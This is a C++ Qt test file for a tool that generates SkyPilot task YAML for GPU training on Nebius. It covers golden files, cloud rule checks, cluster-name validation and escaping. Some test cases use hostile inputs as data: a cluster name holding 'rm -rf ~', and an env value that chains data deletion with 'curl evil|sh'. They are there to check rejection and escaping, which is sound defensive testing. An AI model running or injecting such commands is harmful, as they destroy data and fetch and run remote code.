#include "catalog/Catalog.h"
#include "sky/LaunchPlan.h"
#include "sky/TaskBuilder.h"
#include "sky/TaskYaml.h"

#include "TestSupport.h"

#include <QDir>
#include <QJsonDocument>

#include <yaml-cpp/yaml.h>

using namespace vibeml;
using namespace vibeml::sky;

namespace {

const catalog::Catalog &bundled()
{
    static const catalog::Catalog catalog = catalog::Catalog::load(test::isolatedRoot() + QStringLiteral("/no-sky"));
    return catalog;
}

LaunchPlan loadPlan(const QString &name)
{
    const QByteArray json = test::readFile(test::dataPath(QStringLiteral("tasks/%1/plan.json").arg(name)));
    const auto plan = launchPlanFromJson(QJsonDocument::fromJson(json).object());
    if (!plan)
        qFatal("%s: %s", qPrintable(name), qPrintable(plan.error()));
    return plan.value();
}

TaskSpec validTask()
{
    TaskSpec task;
    task.name = QStringLiteral("vibeml-test");
    task.resources.infra = QStringLiteral("nebius/eu-north1");
    task.resources.accelerators = QStringLiteral("H100:8");
    return task;
}

} // namespace

class TestTaskYaml : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void goldenFiles_data()
    {
        QTest::addColumn<QString>("name");
        for (const char *name : {"single-gpu-lora", "multi-gpu-full", "two-node-8gpu", "spot-managed-job"})
            QTest::newRow(name) << QString::fromLatin1(name);
    }

    // Set VIBEML_UPDATE_GOLDEN=1 to rewrite expected.yaml after an intended change, then review the diff.
    void goldenFiles()
    {
        QFETCH(QString, name);
        const LaunchPlan plan = loadPlan(name);
        const TaskSpec task = buildTask(plan);
        QVERIFY2(checkTask(task, bundled()).isEmpty(), qPrintable(checkTask(task, bundled()).value(0).message));
        const QByteArray yaml = toYaml(task);
        const QString expectedPath = test::dataPath(QStringLiteral("tasks/%1/expected.yaml").arg(name));
        if (qEnvironmentVariableIntValue("VIBEML_UPDATE_GOLDEN"))
            QVERIFY(test::writeFile(expectedPath, yaml));
        QCOMPARE(QString::fromUtf8(yaml), QString::fromUtf8(test::readFile(expectedPath)));

        // And it is YAML SkyPilot will read the way it was meant.
        const YAML::Node node = YAML::Load(yaml.toStdString());
        QCOMPARE(QString::fromStdString(node["name"].as<std::string>()), plan.jobId);
        QCOMPARE(QString::fromStdString(node["resources"]["accelerators"].as<std::string>()), plan.accelerators());
        QCOMPARE(QString::fromStdString(node["resources"]["infra"].as<std::string>()), QStringLiteral("nebius/") + plan.region);
        if (node["resources"]["autostop"])
            QVERIFY(!node["resources"]["autostop"]["down"]);
        QCOMPARE(node["envs"]["PYTHONUNBUFFERED"].as<std::string>(), std::string("1"));
        QCOMPARE(node["envs"]["PYTHONUNBUFFERED"].Tag(), std::string("!"));
        for (const QString &secret : task.secrets)
            QVERIFY(node["secrets"][secret.toStdString()].IsNull());
        QVERIFY(!yaml.contains(plan.modelId.toUtf8()));
        QVERIFY(!yaml.contains(plan.datasetId.toUtf8()));
    }

    void rulesFollowTheShape()
    {
        const TaskSpec single = buildTask(loadPlan(QStringLiteral("single-gpu-lora")));
        QCOMPARE(*single.resources.autostopIdleMinutes, 30);
        QVERIFY(single.resources.networkTier.isEmpty());
        QVERIFY(single.secrets.isEmpty());
        const TaskSpec twoNodes = buildTask(loadPlan(QStringLiteral("two-node-8gpu")));
        QCOMPARE(twoNodes.numNodes, 2);
        QCOMPARE(twoNodes.resources.networkTier, QStringLiteral("best"));
        QCOMPARE(twoNodes.secrets, QStringList({QStringLiteral("HF_TOKEN"), QStringLiteral("WANDB_API_KEY")}));
        const TaskSpec managed = buildTask(loadPlan(QStringLiteral("spot-managed-job")));
        QCOMPARE(managed.resources.jobRecovery, QStringLiteral("EAGER_NEXT_REGION"));
        QVERIFY(!managed.resources.autostopIdleMinutes);
        QCOMPARE(managed.resources.useSpot, std::optional<bool>(true));
    }

    void nebiusRules_data()
    {
        QTest::addColumn<QString>("change");
        QTest::addColumn<QString>("rule");
        QTest::newRow("spot on L40S") << "spot-l40s" << "spot-offered";
        QTest::newRow("infiniband on 1 GPU") << "ib-single" << "infiniband";
        QTest::newRow("infiniband on L40S x4") << "ib-l40s" << "infiniband";
        QTest::newRow("custom disk tier") << "disk-tier" << "disk-tier";
        QTest::newRow("bad env key") << "env-key" << "env-key";
        QTest::newRow("bad secret key") << "secret-key" << "env-key";
        QTest::newRow("autodown in run") << "autodown" << "no-autodown";
        QTest::newRow("another cloud") << "aws" << "infra";
        QTest::newRow("unknown gpu") << "gpu" << "offer";
        QTest::newRow("gpu not in region") << "region" << "offer";
        QTest::newRow("short autostop") << "autostop" << "autostop";
        QTest::newRow("garbage accelerators") << "accelerators" << "accelerators";
        QTest::newRow("multi-node spot without recovery") << "spot-multinode" << "spot-multinode";
    }

    void nebiusRules()
    {
        QFETCH(QString, change);
        QFETCH(QString, rule);
        TaskSpec task = validTask();
        QVERIFY(checkTask(task, bundled()).isEmpty());
        if (change == QLatin1String("spot-l40s")) {
            task.resources.accelerators = QStringLiteral("L40S:1");
            task.resources.useSpot = true;
        } else if (change == QLatin1String("ib-single")) {
            task.resources.accelerators = QStringLiteral("H100:1");
            task.resources.networkTier = QStringLiteral("best");
        } else if (change == QLatin1String("ib-l40s")) {
            task.resources.accelerators = QStringLiteral("L40S:4");
            task.resources.networkTier = QStringLiteral("best");
        } else if (change == QLatin1String("disk-tier")) {
            task.resources.diskTier = QStringLiteral("ultra");
        } else if (change == QLatin1String("env-key")) {
            task.envs.append({QStringLiteral("BAD-KEY"), QStringLiteral("x")});
        } else if (change == QLatin1String("secret-key")) {
            task.secrets.append(QStringLiteral("1TOKEN"));
        } else if (change == QLatin1String("autodown")) {
            task.run = QStringLiteral("python train.py && sky autostop -y --down me");
        } else if (change == QLatin1String("aws")) {
            task.resources.infra = QStringLiteral("aws/us-east-1");
        } else if (change == QLatin1String("gpu")) {
            task.resources.accelerators = QStringLiteral("A100:8");
        } else if (change == QLatin1String("region")) {
            task.resources.infra = QStringLiteral("nebius/eu-west1");
            task.resources.accelerators = QStringLiteral("H100:8");
        } else if (change == QLatin1String("autostop")) {
            task.resources.autostopIdleMinutes = 2;
        } else if (change == QLatin1String("accelerators")) {
            task.resources.accelerators = QStringLiteral("lots of GPUs");
        } else if (change == QLatin1String("spot-multinode")) {
            task.numNodes = 2;
            task.resources.useSpot = true;
        }
        const QList<RuleViolation> violations = checkTask(task, bundled());
        QVERIFY2(!violations.isEmpty(), qPrintable(change));
        bool found = false;
        for (const RuleViolation &violation : violations) {
            found = found || violation.rule == rule;
            QVERIFY(!violation.message.isEmpty());
        }
        QVERIFY2(found, qPrintable(violations.first().rule));
    }

    void clusterNames_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<bool>("valid");
        QTest::newRow("typical") << "vibeml-qwen2-5-0-5b-a1b2c3" << true;
        QTest::newRow("50 chars") << QString(QStringLiteral("v") + QString(49, QLatin1Char('a'))) << true;
        QTest::newRow("51 chars") << QString(QStringLiteral("v") + QString(50, QLatin1Char('a'))) << false;
        QTest::newRow("upper case") << "VibeML-x" << false;
        QTest::newRow("underscore") << "vibeml_x" << false;
        QTest::newRow("shell") << "x;rm -rf ~" << false;
        QTest::newRow("leading digit") << "1abc" << false;
        QTest::newRow("trailing dash") << "abc-" << false;
        QTest::newRow("empty") << "" << false;
    }

    void clusterNames()
    {
        QFETCH(QString, name);
        QFETCH(bool, valid);
        QCOMPARE(!clusterNameProblem(name).has_value(), valid);
    }

    void jobIdsAreValidClusterNames()
    {
        const QStringList models{QStringLiteral("meta-llama/Llama-3.1-8B-Instruct"), QStringLiteral("Qwen/Qwen2.5-0.5B-Instruct"),
                                 QStringLiteral("x/") + QString(96, QLatin1Char('A')), QStringLiteral("org/123-model"),
                                 QStringLiteral("gpt2")};
        for (const QString &model : models) {
            const QString id = newJobId(model);
            QVERIFY2(!clusterNameProblem(id), qPrintable(id));
            QVERIFY(id.startsWith(QStringLiteral("vibeml-")));
        }
        QVERIFY(newJobId(QStringLiteral("a/b")) != newJobId(QStringLiteral("a/b")));
    }

    void hostileValuesAreEscaped()
    {
        TaskSpec task = validTask();
        const QString hostile = QStringLiteral("x\"; rm -rf ~ #\n$(curl evil|sh) `id` 'quoted' \\ üñíçødé: - [a, b] {c: d} &anchor *ref");
        task.envs.append({QStringLiteral("HOSTILE"), hostile});
        const QByteArray yaml = toYaml(task);
        const YAML::Node node = YAML::Load(yaml.toStdString());
        QCOMPARE(QString::fromStdString(node["envs"]["HOSTILE"].as<std::string>()), hostile);
        QCOMPARE(node.size(), std::size_t(3)); // name, resources, envs: nothing leaked out as new keys
    }

    void planRoundTrips()
    {
        const LaunchPlan plan = loadPlan(QStringLiteral("two-node-8gpu"));
        const auto again = launchPlanFromJson(toJson(plan));
        QVERIFY(again);
        QCOMPARE(toJson(again.value()), toJson(plan));
        QVERIFY(!launchPlanFromJson(QJsonObject{}).isOk());
        QJsonObject broken = toJson(plan);
        broken.insert(QStringLiteral("parallelism"), QStringLiteral("magic"));
        QVERIFY(!launchPlanFromJson(broken).isOk());
    }

    void diskSizes()
    {
        QCOMPARE(diskSizeGb(loadPlan(QStringLiteral("single-gpu-lora"))), 128);
        const int full = diskSizeGb(loadPlan(QStringLiteral("multi-gpu-full")));
        QVERIFY(full >= 256 && full % 64 == 0);
        QVERIFY(diskSizeGb(loadPlan(QStringLiteral("two-node-8gpu"))) >= 256);
    }
};

VIBEML_TEST_MAIN_CORE(TestTaskYaml)
#include "tst_taskyaml.moc"
